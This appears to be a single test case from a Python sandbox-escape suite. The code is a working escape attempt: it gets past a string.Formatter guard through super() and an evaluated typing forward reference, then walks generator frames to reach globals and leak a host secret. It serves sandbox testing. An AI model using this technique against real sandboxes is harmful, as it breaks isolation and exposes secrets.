# ATTEMPT: super() over string.Formatter, with get_field reached through a dotted forward reference (not the guard), walking to a frame's globals. ESCAPE IF: output contains the host process's memory secret. [check=out:MEMSECRET]
import string, typing
class F(string.Formatter):
    def get_field(self, field_name, args, kwargs):
        ref = typing.get_args(typing.Optional["s.get_field"])[0]
        real = ref._evaluate({"s": super()}, None, frozenset())
        return real(field_name, args, kwargs)
print(F().format("{0.gi_frame.f_back.f_back.f_globals}", (x for x in [1])))
